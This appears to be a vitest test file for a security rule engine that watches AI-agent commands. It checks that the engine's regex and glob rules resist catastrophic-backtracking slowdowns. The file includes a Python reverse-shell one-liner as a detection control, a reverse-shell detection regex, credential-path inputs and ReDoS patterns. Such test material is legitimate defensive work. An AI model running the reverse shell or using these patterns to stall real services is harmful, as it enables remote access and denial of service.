import picomatch from 'picomatch';
import { describe, expect, it } from 'vitest';
import {
  buildRuleSet,
  compileGlobs,
  type Envelope,
  type Rule,
  RuleFileSchema,
  type RuleSet,
  readRuleSources,
  ruleConditions,
} from '../../engine/index.ts';
import { isSigmaDocument, lowerSigma, type SigmaDocument } from '../../engine/rules/sigma/index.ts';
import { BUNDLED_RULES, bundledRules, event, replayEngine } from '../engine/helpers.ts';

/**
 * Issue 13, regex DoS: one command_exec whose command was "python socket " x 1,200 (17 KB) froze `start` for
 * 11.6 s in the bundled REVERSE_SHELL_COMMAND regex, and `rules validate` accepted patterns that ran for
 * seconds. Every rule regex and glob is now matched by RE2 (linear time). Each case: a control that still
 * matches, the hostile input evaluated through the engine within the budget, and the old backtracking
 * engine (RegExp / picomatch) shown past the same budget on a fraction of that input.
 */
const BUDGET_MS = 50;

function timed<T>(run: () => T): { value: T; ms: number } {
  const start = performance.now();
  const value = run();
  return { value, ms: performance.now() - start };
}

const command = (seconds: number, line: string, agentId = 'agent-1'): Envelope =>
  event(
    seconds,
    'command_exec',
    { type: 'command', command: 'sh', args: ['-c', line] },
    {
      metadata: { agentId },
      sessionId: `sess-${agentId}`,
    },
  );

/**
 * The slowest of the engine's runs over `events`, each on a fresh engine (no state carried over). An event
 * counts at the fastest of three runs: a hostile input is slow every time, while a stall of the shared machine
 * (a GC, another process) is not the engine's.
 */
function slowestEvent(rules: RuleSet, events: Envelope[]): number {
  let slowest = 0;
  for (const hostile of events) {
    let fastest = Number.POSITIVE_INFINITY;
    for (let attempt = 0; attempt < 3 && fastest >= BUDGET_MS; attempt++) {
      const { run } = replayEngine(rules);
      fastest = Math.min(fastest, timed(() => run([hostile])).ms);
    }
    slowest = Math.max(slowest, fastest);
  }
  return slowest;
}

const text = (body: string): Envelope =>
  event(0, 'custom', { type: 'custom', customType: 'note', text: body });

const REVERSE_SHELL = /\b(?:python[0-9.]*|perl|ruby|php)\b.*\bsocket\b.*\b(?:connect|dup2|fsockopen)\b/;

describe('bundled REVERSE_SHELL_COMMAND on the issue’s input', () => {
  const rules = bundledRules(['REVERSE_SHELL_COMMAND']);

  it('control: a Python reverse shell still fires', () => {
    const line = `python3 -c 'import socket,os;s=socket.socket();s.connect(("203.0.113.9",4444));os.dup2(s.fileno(),0)'`;
    const alerts = replayEngine(rules).run([command(0, line)]);
    expect(alerts.map((alert) => alert.ruleId)).toEqual(['REVERSE_SHELL_COMMAND']);
  });

  it(`attack: "python socket " x 1,200 (17 KB) and x 2,400 (34 KB) take under ${BUDGET_MS} ms`, () => {
    const hostile = [1_200, 2_400].map((repeat) => command(0, 'python socket '.repeat(repeat)));
    // Warm once (the first RE2 DFA states are built on first use), then measure.
    slowestEvent(rules, hostile);
    const slowest = slowestEvent(rules, hostile);
    expect(slowest).toBeLessThan(BUDGET_MS);
    // The backtracking expression the rule used to run needed more than that on a third of the input.
    const old = timed(() => REVERSE_SHELL.test('python socket '.repeat(400)));
    expect(old.value).toBe(false);
    expect(old.ms).toBeGreaterThan(BUDGET_MS);
  });
});

/** Every regex leaf of the bundled rules, with its patterns. */
function bundledRegexLeaves(): Array<{ ruleId: string; patterns: string[] }> {
  const sources = readRuleSources([BUNDLED_RULES]);
  if (!sources.ok) throw new Error('bundled rules do not load');
  const leaves: Array<{ ruleId: string; patterns: string[] }> = [];
  const rules: Rule[] = [];
  const sigma: SigmaDocument[] = [];
  for (const { file, content } of sources.value) {
    const documents = Array.isArray(content) ? content : [content];
    if (documents.every(isSigmaDocument)) {
      sigma.push(...documents.map((value, index) => ({ file, path: [index], value })));
    } else rules.push(...RuleFileSchema.parse(content).rules);
  }
  // Sigma rules as the engine runs them: wildcards and `re` values lowered into regex leaves (the Sigma
  // copies of the reference rules too, though they are off by default).
  const lowered = lowerSigma(sigma, { fieldMapping: {}, maxConditionLength: 4096, maxConditionDepth: 32 });
  if (lowered.problems.length > 0) throw new Error('bundled Sigma rules do not lower');
  rules.push(...lowered.rules.map((entry) => entry.rule));
  const visit = (ruleId: string, condition: unknown): void => {
    if (typeof condition !== 'object' || condition === null) return;
    const node = condition as Record<string, unknown>;
    if (node.operator === 'regex') leaves.push({ ruleId, patterns: [node.value].flat() as string[] });
    for (const child of Object.values(node)) {
      if (Array.isArray(child)) for (const item of child) visit(ruleId, item);
      else visit(ruleId, child);
    }
  };
  for (const rule of rules) for (const condition of ruleConditions(rule)) visit(rule.id, condition);
  return leaves;
}

describe('every bundled regex on hostile text built from its own words', () => {
  const leaves = bundledRegexLeaves();

  it('finds the bundled regex leaves', () => expect(leaves.length).toBeGreaterThanOrEqual(8));

  it(`matches 17 KB and 33 KB of each pattern's words, repeated, in under ${BUDGET_MS} ms per event`, () => {
    const rules = bundledRules();
    const events: Envelope[] = [];
    for (const { patterns } of leaves) {
      for (const pattern of patterns) {
        const words = pattern.match(/[A-Za-z]{2,}/g) ?? ['a'];
        // All its words (a match would follow) and all but the last (the backtracking worst case).
        for (const text of [words.join(' '), words.slice(0, -1).join(' ')]) {
          for (const size of [17_000, 33_000]) {
            const body = `${text} `.repeat(Math.ceil(size / (text.length + 1))).slice(0, size);
            events.push(command(0, body));
            events.push(event(0, 'custom', { type: 'custom', customType: 'user_input', text: body }));
            events.push(
              event(0, 'patch_apply', { type: 'patch', filePath: '/srv/a.ts', patchContent: body }),
            );
            events.push(
              event(0, 'file_write', { type: 'file', path: '/srv/a.txt', operation: 'write', content: body }),
            );
            events.push(
              event(0, 'tool_call', {
                type: 'tool',
                toolName: body.slice(0, 4_000),
                parameters: { command: body },
              }),
            );
          }
        }
      }
    }
    slowestEvent(rules, events.slice(0, 20));
    expect(slowestEvent(rules, events)).toBeLessThan(BUDGET_MS);
  });
});

/** A match rule on a text field with user-written patterns, compiled as `rules validate` and `start` do. */
function userRule(patterns: string[]): RuleSet {
  const built = buildRuleSet([
    {
      file: 'user.yaml',
      content: {
        rules: [
          {
            id: 'USER_PATTERN',
            name: 'user pattern',
            severity: 'low',
            type: 'match',
            condition: { fact: 'data.text', operator: 'regex', value: patterns },
          },
        ],
      },
    },
  ]);
  if (!built.ok) throw new Error(JSON.stringify(built.error));
  return built.value;
}

/** `old`: an input on which a first (cold) RegExp run took 100-300 ms here, idle; one character more doubles it. */
const CATASTROPHIC: Array<{
  pattern: string;
  control: string;
  hostile: (size: number) => string;
  old: string;
}> = [
  { pattern: '(a+)+$', control: 'aaa', hostile: (n) => `${'a'.repeat(n)}!`, old: `${'a'.repeat(22)}!` },
  { pattern: '(a|a)*b', control: 'aab', hostile: (n) => 'a'.repeat(n), old: 'a'.repeat(21) },
  { pattern: '(a|aa)+$', control: 'aaaa', hostile: (n) => `${'a'.repeat(n)}!`, old: `${'a'.repeat(29)}!` },
  {
    pattern: '^(\\w+\\s?)*$',
    control: 'ab cd',
    hostile: (n) => `${'word '.repeat(n / 5)}!`,
    old: `${'a'.repeat(22)}!`,
  },
  { pattern: '(x+x+)+y', control: 'xxy', hostile: (n) => 'x'.repeat(n), old: 'x'.repeat(23) },
  {
    pattern: '(.*a){12}',
    control: 'a'.repeat(12),
    hostile: (n) => `${'a'.repeat(11)}${'b'.repeat(n)}`,
    old: `${'a'.repeat(11)}${'b'.repeat(12_000)}`,
  },
  { pattern: '(\\w|\\d)+!', control: 'a1!', hostile: (n) => '1'.repeat(n), old: '1'.repeat(21) },
  { pattern: '.*.*.*=.*;', control: 'a=b;', hostile: (n) => 'x='.repeat(n / 2), old: 'x='.repeat(50) },
];

describe('user-written catastrophic patterns', () => {
  for (const { pattern, control, hostile, old } of CATASTROPHIC) {
    it(`${pattern}: control matches; 17 KB and 33 KB in under ${BUDGET_MS} ms; RegExp took longer on ${old.length} characters`, () => {
      const rules = userRule([pattern]);
      expect(
        replayEngine(rules)
          .run([text(control)])
          .map((alert) => alert.ruleId),
      ).toEqual(['USER_PATTERN']);
      const events = [17_000, 33_000].map((size) => text(hostile(size)));
      slowestEvent(rules, events);
      expect(slowestEvent(rules, events)).toBeLessThan(BUDGET_MS);
      const backtracking = timed(() => new RegExp(pattern).test(old));
      expect(backtracking.ms).toBeGreaterThan(BUDGET_MS);
    });
  }
});

describe('globs', () => {
  const glob = '**/*a*a*a*a*b';

  it(`control: ${glob} matches; 33 KB paths in under ${BUDGET_MS} ms; picomatch took longer on 100 characters`, () => {
    const matcher = compileGlobs([glob]);
    if (typeof matcher !== 'function') throw new Error(matcher.reason);
    expect(matcher('/srv/xaxaxaxab')).toBe(true);
    for (const input of [
      'a'.repeat(33_000),
      `/${'a/'.repeat(16_500)}`,
      `${'/a'.repeat(8_000)}${'a'.repeat(17_000)}`,
    ]) {
      matcher(input);
      const { value, ms } = timed(() => matcher(input));
      expect(value).toBe(false);
      expect(ms).toBeLessThan(BUDGET_MS);
    }
    const backtracking = timed(() => picomatch(glob, { dot: true })('a'.repeat(100)));
    expect(backtracking.ms).toBeGreaterThan(BUDGET_MS);
  });

  it('bundled path lists: 33 KB paths through every glob rule in under the budget', () => {
    const rules = bundledRules();
    const paths = [
      `/${'.ssh/'.repeat(6_600)}`,
      `/home/${'a'.repeat(33_000)}`,
      `${'/etc'.repeat(8_000)}/x`,
      `/${'.aws/credential'.repeat(2_000)}`,
    ];
    const events = paths.flatMap((path) => [
      event(0, 'file_read', { type: 'file', path, operation: 'read' }),
      event(0, 'file_write', { type: 'file', path, operation: 'write' }),
    ]);
    slowestEvent(rules, events);
    expect(slowestEvent(rules, events)).toBeLessThan(BUDGET_MS);
  });
});

describe("RE2's own worst case (a counted repetition the DFA cannot cache)", () => {
  // Not exponential and not polynomial: the work per character is bounded by the compiled program's size
  // (ruleLimits.maxRegexProgramSize). Measured: see BENCHMARKS.md, bench:regex.
  it('grows linearly with the input: 4x the input costs at most 8x the time', () => {
    const rules = userRule(['[ab]*a[ab]{50}[^ab]']);
    let seed = 1;
    const ab = (n: number) =>
      Array.from({ length: n }, () => {
        seed = (Math.imul(seed, 1103515245) + 12345) >>> 0;
        return seed < 2 ** 31 ? 'a' : 'b';
      }).join('');
    const best = (n: number) =>
      Math.min(
        ...[ab(n), ab(n), ab(n)].map((body) => {
          const { run } = replayEngine(rules);
          const hostile = text(body);
          return timed(() => run([hostile])).ms;
        }),
      );
    best(2_000);
    const small = best(8_000);
    const large = best(32_000);
    expect(large / small).toBeLessThan(8);
  });
});
